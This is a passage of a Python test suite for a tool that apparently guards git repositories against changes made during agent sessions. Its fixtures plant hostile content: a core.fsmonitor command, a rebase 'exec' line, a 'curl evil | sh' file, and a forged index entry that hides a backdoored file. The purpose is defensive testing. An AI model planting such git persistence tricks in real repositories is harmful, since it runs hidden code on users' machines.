    (repo / ".git" / "rr-cache" / ("a" * 40) / "postimage").write_text("the session's resolution\n")
    assert snapshots.changes(before, snapshots.take(str(repo), layout)) == [".git/rr-cache"]


@pytest.mark.parametrize("plant", ["config.worktree", "commondir"])
def test_a_part_joined_while_a_session_runs_never_puts_its_plant_back(tmp_path: Path, plant: str) -> None:
    """A session on a linked worktree writes its own git directory's
    ``config.worktree`` (``core.fsmonitor``) or ``commondir``; a second
    session then opens on the main worktree, whose part's baseline takes the
    plant for the user's. Each part covers ``.git/worktrees/N``: the first
    part's baseline judges it (the plant moved aside, the user's put back),
    and the later part neither puts the plant back nor moves the user's
    aside. The twin: without the second session, the same."""
    for second in (True, False):
        main = make_repo(tmp_path / f"main-{second}")
        git(main, "config", "extensions.worktreeConfig", "true")
        linked = tmp_path / f"linked-{second}"
        git(main, "worktree", "add", "-q", str(linked), "-b", "side")
        own = main / ".git" / "worktrees" / linked.name
        original = (own / "commondir").read_text()
        store = baselines.Baselines(str(tmp_path / f"state-{second}"))
        _join(store, "L", linked, keep=True)
        (own / plant).write_text('[core]\n\tfsmonitor = "touch PWNED; false"\n' if plant == "config.worktree"
                                 else "elsewhere\n")
        if second:
            _join(store, "P", main, keep=True)
            store.leave("L")
        store.leave("P" if second else "L")
        for _ in range(2):  # a later session's end: nothing moves again
            _join(store, "again", linked)
            store.leave("again")
        if plant == "config.worktree":
            assert not (own / plant).exists()
        else:
            assert (own / plant).read_text() == original
        aside = [p.name for p in own.iterdir() if ".quarantined-by-dispatchd-" in p.name]
        assert len(aside) == 1 and aside[0].startswith(plant + "."), aside


def test_a_writable_session_joining_a_read_only_domain_takes_the_users_work_as_the_baseline(tmp_path: Path) -> None:
    """A read-only session opens; the user adds a remote, a hook, a
    tool's file and a commit by hand; a writable session joins, does nothing,
    and both end. What the user did while only the read-only session ran is
    theirs: nothing moved aside, no old bytes put back, the branch kept. The
    twin: what the writable session's own time changes is still judged."""
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "ro", repo, writable=False, keep=True)
    git(repo, "remote", "add", "origin", "https://example.invalid/r.git")
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    (repo / "d0" / "vscode-like").write_text("export A=1\n")
    commits(repo, 1)
    head = rev(repo, "HEAD")
    _join(store, "rw", repo, keep=True)
    found = store.leave("rw") + store.leave("ro")
    assert found == [], found
    assert git(repo, "remote", "get-url", "origin") == "https://example.invalid/r.git\n"
    assert (repo / ".git" / "hooks" / "pre-commit").exists() and (repo / "d0" / "vscode-like").exists()
    assert rev(repo, "HEAD") == head
    _join(store, "ro", repo, writable=False, keep=True)  # the twin
    _join(store, "rw", repo, keep=True)
    (repo / "d0" / "vscode-like").write_text("export A=2\n")  # in the writable session's time
    found = store.leave("rw") + store.leave("ro")
    assert [Path(p.path).relative_to(repo).as_posix().split(".quarantined")[0] for p in found] == ["d0/vscode-like"]


def _aside_below(top: Path) -> list[str]:
    return sorted(str(p.relative_to(top)) for p in top.rglob("*") if ".quarantined-by-dispatchd-" in p.name)


@pytest.mark.parametrize("second", [False, True])
def test_a_plant_in_a_worktree_entry_added_while_a_session_ran_is_moved_aside(tmp_path: Path, second: bool) -> None:
    """The user adds a linked worktree while a session on the main worktree
    runs (and, ``second``, opens a session there); the first session writes
    a rebase's todo into the new entry (`exec` runs at the user's `git rebase
    --continue`). The first part's baseline has no such entry: everything
    in it but the `commondir` git writes is a plant, moved aside; nor does
    that part claim the entry, so the linked worktree's own part judges it
    too. The twin: the entry as `git worktree add` made it is left alone."""
    main = make_repo(tmp_path / "m")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "M", main, keep=True)
    linked = tmp_path / "l2"
    git(main, "worktree", "add", "-q", str(linked), "-b", "l2")
    if second:
        _join(store, "L", linked, keep=True)
    entry = main / ".git" / "worktrees" / "l2"
    (entry / "rebase-merge").mkdir()
    (entry / "rebase-merge" / "git-rebase-todo").write_text("exec touch PWNED\n")
    if second:
        store.leave("L")
    store.leave("M")
    assert not (entry / "rebase-merge").exists() and _aside_below(entry) != []
    assert (entry / "commondir").exists() and (entry / "HEAD").exists() and (entry / "gitdir").exists()
    _join(store, "M", main, keep=True)  # the twin: a worktree added the same way, nothing planted
    git(main, "worktree", "add", "-q", str(tmp_path / "l3"), "-b", "l3")
    assert store.leave("M") == [] and _aside_below(main / ".git" / "worktrees" / "l3") == []


def test_a_repository_inside_another_s_worktree_is_judged_by_its_own_part(tmp_path: Path) -> None:
    """A session on a repository inside another worktree changes its
    exclude; a session then opens on the outer worktree, whose baseline
    takes the inner `.git` as it is then. The inner part puts the user's
    file back, and the outer part leaves the inner `.git` to it: before, it
    moved the whole inner repository aside (and `git -C inner` then acted
    on the outer one)."""
    outer = make_repo(tmp_path / "outer")
    inner = make_repo(outer / "inner")
    git(outer, "add", "inner")  # a gitlink: a submodule kept in place, its .git a directory
    git(outer, "commit", "-qm", "inner")
    exclude = inner / ".git" / "info" / "exclude"
    exclude.parent.mkdir(exist_ok=True)
    exclude.write_text("*.log\n")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "I", inner, keep=True)
    with open(exclude, "a") as f:
        f.write("conftest.py\n")
    _join(store, "O", outer, keep=True)
    store.leave("I")
    store.leave("O")
    assert (inner / ".git").is_dir() and exclude.read_text() == "*.log\n"
    aside = _aside_below(outer)
    assert len(aside) == 1 and aside[0].startswith("inner/.git/info/exclude.quarantined-by-dispatchd-"), aside
    assert git(inner, "rev-parse", "--show-toplevel").strip() == str(inner)


def test_a_config_worktree_put_back_is_no_new_redirect_to_a_later_part(tmp_path: Path) -> None:
    """The user's own `config.worktree` of a linked worktree, deleted by a
    session on the main worktree; a session on the linked worktree opens
    then (its baseline: no such file). The first part puts it back, and the
    later part's redirect check leaves it: before, it moved it aside as a
    new redirect, and the user's setting was gone."""
    main = make_repo(tmp_path / "m")
    git(main, "config", "extensions.worktreeConfig", "true")
    linked = tmp_path / "l"
    git(main, "worktree", "add", "-q", str(linked), "-b", "l")
    own = main / ".git" / "worktrees" / "l" / "config.worktree"
    own.write_text("[user]\n\temail = me@example.invalid\n")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "M", main, keep=True)
    own.unlink()
    _join(store, "L", linked, keep=True)
    store.leave("M")
    store.leave("L")
    assert own.read_text() == "[user]\n\temail = me@example.invalid\n"


def test_a_read_only_domain_merged_into_a_writable_one_is_renewed(tmp_path: Path) -> None:
    """A read-only session on A, a writable one on B (two domains); the user
    adds a remote in A; a session on the directory holding both merges the
    domains. A's part is taken again then: the user's remote stays. The
    twin: B's part, whose session could write, is still judged."""
    top = tmp_path / "top"
    top.mkdir()
    a, b = make_repo(top / "a"), make_repo(top / "b")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "ra", a, writable=False, keep=True)
    _join(store, "wb", b, keep=True)
    git(a, "remote", "add", "origin", "https://example.invalid/a.git")
    (b / "d0" / "vscode-like").write_text("planted\n")
    _join(store, "top", top, writable=False, keep=True)
    found = store.leave("top") + store.leave("wb") + store.leave("ra")
    assert git(a, "remote", "get-url", "origin") == "https://example.invalid/a.git\n"
    assert [Path(p.path).relative_to(top).as_posix().split(".quarantined")[0] for p in found] == ["b/d0/vscode-like"]


def test_a_part_joined_after_a_linked_worktrees_session_keeps_the_users_config_and_hooks(tmp_path: Path) -> None:
    """A session on a linked worktree opens first; one on the main worktree
    then deletes the user's hook and rewrites `.git/config`. A linked
    worktree's session can write neither (its reach: its worktree, its own
    git directory, objects, refs, logs), so the main worktree's part, joined
    while it ran, keeps their bytes, and the end puts both back. What the
    linked session could write (`.git/worktrees/N/...`) it keeps none of."""
    main = make_repo(tmp_path / "m")
    git(main, "remote", "add", "origin", "https://example.invalid/m.git")
    hook = main / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexec ./check\n")
    hook.chmod(0o755)
    linked = tmp_path / "l"
    git(main, "worktree", "add", "-q", str(linked), "-b", "l")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "L", linked, keep=True)
    _join(store, "M", main, keep=True)
    kept = {k.rel for k in store._by_session["M"].record.parts[1].git.kept}
    assert {".git/config", ".git/hooks/pre-commit"} <= kept and not any("worktrees" in k for k in kept), kept
    hook.unlink()
    (main / ".git" / "config").write_text('[core]\n\tfsmonitor = "touch PWNED"\n')
    store.leave("M")
    store.leave("L")
    assert git(main, "remote", "get-url", "origin") == "https://example.invalid/m.git\n"
    assert hook.read_text() == "#!/bin/sh\nexec ./check\n" and hook.stat().st_mode & 0o777 == 0o755


def _failing_writes(monkeypatch: pytest.MonkeyPatch, store: baselines.Baselines, n: int) -> None:
    """The store's next ``n`` record writes fail as on a full disk."""
    real = store._write
    left = [n]

    def write(domain: baselines.Domain, *, defer: bool = False) -> None:
        if left[0] > 0:
            left[0] -= 1
            raise OSError(28, "No space left on device")
        real(domain, defer=defer)

    monkeypatch.setattr(store, "_write", write)


def test_a_merge_whose_record_cannot_be_written_leaves_both_domains_and_their_locks(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before, the merge changed the domains in memory first, and the failed
    write left their locks held: every later close of their sessions hung."""
    top = tmp_path / "top"
    top.mkdir()
    a, b = make_repo(top / "a"), make_repo(top / "b")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "sa", a)
    _join(store, "sb", b)
    domains = {sid: store._by_session[sid] for sid in ("sa", "sb")}
    parts = {sid: [p.root for p in d.record.parts] for sid, d in domains.items()}
    _failing_writes(monkeypatch, store, 1)
    with pytest.raises(baselines.WorktreeError, match="its baseline cannot be recorded .*No space left on device"):
        _join(store, "top", top)
    assert {sid: store._by_session[sid] for sid in ("sa", "sb")} == domains  # each as it was
    assert {sid: [p.root for p in d.record.parts] for sid, d in domains.items()} == parts
    assert all(d.record.sessions == [sid] for sid, d in domains.items())
    # The twin: the disk has room again; the same open merges them, no lock left held.
    joined = threading.Thread(target=_join, args=(store, "top", top), daemon=True)
    joined.start()
    joined.join(60)
    assert not joined.is_alive()
    assert store._by_session["top"] is store._by_session["sa"] is store._by_session["sb"]
    ended = [threading.Thread(target=store.leave, args=(sid,), daemon=True) for sid in ("top", "sa", "sb")]
    for t in ended:
        t.start()
    for t in ended:
        t.join(60)
    assert not any(t.is_alive() for t in ended)


def test_a_join_whose_record_cannot_be_written_leaves_no_part_behind(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before, the failed open's part stayed in the domain: a later open of
    that root counted as covered, its baseline the failed open's."""
    top = tmp_path / "top"
    top.mkdir()
    a = make_repo(top / "a")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "sa", a)
    domain = store._by_session["sa"]
    before = [p.root for p in domain.record.parts]
    _failing_writes(monkeypatch, store, 1)
    with pytest.raises(baselines.WorktreeError, match="No space left on device"):
        _join(store, "top", top)
    assert [p.root for p in domain.record.parts] == before and domain.record.sessions == ["sa"]
    _join(store, "top", top)  # the twin: with room, the part joins
    assert [p.root for p in store._by_session["top"].record.parts] == [*before, str(top)]


def test_the_index_is_reviewed_only_where_no_other_session_of_the_domain_runs(tmp_path: Path) -> None:
    """A session's end while another of the domain runs leaves the index to
    the last end: the live one's git writes it at any moment, and a review
    then raced it (its `git add` undone, its git refused for index.lock).
    The twin: the last end reviews it, and resets the entry that hides."""
    import hashlib

    from dispatchd.daemon.gitguard import indexfile

    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "sa", repo)
    _join(store, "sb", repo)
    time.sleep(0.06)
    name = "d0/file-with-a-longer-name-0.txt"
    committed = git(repo, "rev-parse", f"HEAD:{name}").strip()
    (repo / name).write_text("BACKDOOR\n")
    time.sleep(1.1)  # not racily clean: git would trust the entry
    git(repo, "add", name)
    index = repo / ".git" / "index"
    data = bytearray(index.read_bytes())
    found = indexfile.layout(bytes(data))
    assert found is not None
    entry = next(e for e in found.entries if e.name == name.encode())
    data[entry.start + 40:entry.start + 60] = bytes.fromhex(committed)
    data[-20:] = hashlib.sha1(bytes(data[:-20])).digest()
    index.write_bytes(bytes(data))
    hidden = index.read_bytes()
    assert [p.why for p in store.leave("sa") if p.path.endswith("index")] == []
    assert index.read_bytes() == hidden  # sb runs: left to the last end
    found_at_end = [p.why for p in store.leave("sb") if p.path.endswith("index")]
    assert len(found_at_end) == 1 and found_at_end[0].startswith("said 1 files the session changed were unchanged")
    assert index.read_bytes() != hidden


def test_an_index_review_that_fails_leaves_the_tree_s_check_to_run(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """A review of the index that raised (memory, before its names' bound)
    ended the part's check there: an ``.envrc`` the session planted stayed
    live. Now the failure is said and the tree is checked all the same. The
    twin: with the review working, the same plant goes aside too. (The
    protected name here is ``_join``'s ``vscode-like``.)"""
    from dispatchd.daemon.gitguard import parts

    def fails(*args: object, **kwargs: object) -> None:
        raise MemoryError

    for broken in (True, False):
        repo = make_repo(tmp_path / f"r{broken}")
        store = baselines.Baselines(str(tmp_path / f"state{broken}"))
        _join(store, "sa", repo)
        (repo / "vscode-like").write_text("curl evil | sh\n")
        with monkeypatch.context() as m:
            if broken:
                m.setattr(parts.indexreview, "review", fails)
            found = store.leave("sa")
        assert not (repo / "vscode-like").exists()
        said = " ".join(p.why for p in found)
        assert ("the review of the index failed (MemoryError)" in said) == broken, said
